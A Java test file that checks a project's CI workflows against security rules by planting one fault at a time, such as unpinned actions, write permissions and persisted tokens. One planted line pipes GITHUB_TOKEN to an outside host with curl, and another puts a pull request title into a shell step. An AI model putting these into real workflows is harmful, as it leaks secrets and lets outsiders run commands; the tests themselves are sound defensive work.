package hello.workflows;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

/** The workflows keep the rules, and the rules notice what breaks them. */
class WorkflowsTest {

    @Test
    void workflowsKeepTheRules() {
        Map<String, String> workflows = Workflows.read();
        assertThat(workflows)
                .containsOnlyKeys("verify.yml", "release.yml", "promote.yml", "cluster.yml", "security.yml");
        List<String> complaints = new ArrayList<>();
        workflows.forEach((name, text) -> complaints.addAll(Workflows.complaints(name, text)));
        assertThat(complaints).isEmpty();
    }

    /** One fault each, planted where it would be made. */
    @ParameterizedTest(name = "{3}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            verify.yml   | ` # v7.0.1`                     | ``                              | not pinned
            verify.yml   | @3d3c42e5aac5ba805825da76410c181273ba90b1 | @v7                   | not pinned
            verify.yml   | permissions: {}                 | permissions: {contents: write}  | rights at the top
            verify.yml   | ` # the source`                 | ``                              | no reason beside
            verify.yml   | contents: read                  | contents: write                 | lets a pull request have contents: write
            verify.yml   | `  pull_request:`               | `  pull_request_target:`        | is started by pull_request_target
            verify.yml   | persist-credentials: false      | fetch-depth: 0                  | does not say whether the token stays
            verify.yml   | persist-credentials: false      | persist-credentials: true       | keeps a token
            verify.yml   | make test                       | make tests                      | a target that is not there: tests
            verify.yml   | run: make test                  | `run: make test; curl example.org/$TOKEN\n        env: {TOKEN: "${{ secrets.GITHUB_TOKEN }}"}` | lets a pull request see a secret
            verify.yml   | make test                       | `make test ${{ github.event.pull_request.title }}` | text of others
            verify.yml   | make test                       | npm test                        | neither a target nor a script
            verify.yml   | `    timeout-minutes: 20\n`     | ``                              | may run for hours
            verify.yml   | ubuntu-24.04                    | ubuntu-latest                   | whatever is the latest
            release.yml  | `'gitops/**', `                 | ``                              | starts again on its own bump
            release.yml  | 'gitops/**'                     | `'gitops/charts/**'`            | starts again on its own bump
            release.yml  | 'gitops/**'                     | `'gitops/**', 'service/**'`     | does not start on a change of code
            release.yml  | branches: [main]                | branches: [main, try]           | is not for main alone
            release.yml  | `  queue: max`                  | `  other: max`                  | may drop or cut off
            release.yml  | cancel-in-progress: false       | cancel-in-progress: true        | may drop or cut off
            release.yml  | group: release                  | `group: release-${{ github.sha }}` | more than one queue
            release.yml  | `  workflow_dispatch:`          | `  pull_request:`               | lets a pull request have packages: write
            release.yml  | .github/join-platforms          | .github/join                    | a script that is not there: .github/join
            release.yml  | ./.github/workflows/verify.yml  | ./.github/workflows/check.yml   | uses what is not there
            release.yml  | run: gitops/bump                | `run: \\|\n          git pull\n          gitops/bump` | does what no script does
            security.yml | `if: github.event_name == 'schedule' || github.event_name == 'workflow_dispatch'` | if: always() | lets a pull request have packages: read
            promote.yml  | `      contents: write # the branch of the pull request\n` | ``           | keeps a token
            """)
    void faultIsNoticed(String file, String right, String wrong, String complaint) {
        String text = Workflows.read().get(file);
        String before = plain(right);
        assertThat(text).as("where the fault is planted").contains(before);
        String planted =
                text.replaceFirst(Pattern.quote(before), Matcher.quoteReplacement(wrong == null ? "" : plain(wrong)));
        assertThat(Workflows.complaints(file, planted)).anyMatch(found -> found.contains(complaint));
    }

    @Test
    void longWorkflowIsNoticed() {
        assertThat(Workflows.complaints("verify.yml", Workflows.read().get("verify.yml") + "\n".repeat(90)))
                .anyMatch(found -> found.contains("100 lines"));
    }

    @Test
    void renovateWaitsAndFindsWhatIsPinnedOutsideOfItsOwnManagers() throws IOException {
        Map<String, Object> renovate = new Yaml(new SafeConstructor(new LoaderOptions()))
                .load(Files.readString(Workflows.root().resolve("renovate.json")));
        assertThat(renovate)
                .containsEntry("minimumReleaseAge", "7 days")
                .containsEntry("internalChecksFilter", "strict");
        assertThat((List<?>) renovate.get("enabledManagers"))
                .asString()
                .contains("maven", "github-actions", "kubernetes", "kustomize", "mise");
        for (Object each : (List<?>) renovate.get("customManagers")) {
            var manager = (Map<?, ?>) each;
            String files =
                    ((List<?>) manager.get("managerFilePatterns")).getFirst().toString();
            String file = files.replaceAll("[/^$]", "").replace("\\.", ".").replace("github", "github/");
            String pattern = ((List<?>) manager.get("matchStrings")).getFirst().toString();
            assertThat(Pattern.compile(pattern)
                            .matcher(Files.readString(Workflows.root().resolve(file)))
                            .results()
                            .count())
                    .as(pattern)
                    .isEqualTo(1);
        }
    }

    @Test
    void readmeHasARowForEachWorkflow() throws IOException {
        String readme = Files.readString(Workflows.root().resolve(".github/workflows/README.md"));
        Workflows.read()
                .keySet()
                .forEach(name -> assertThat(readme).contains("[" + name.replace(".yml", "") + "](" + name + ")"));
    }

    private static String plain(String text) {
        return text.replace("\\n", "\n").replace("\\|", "|");
    }
}
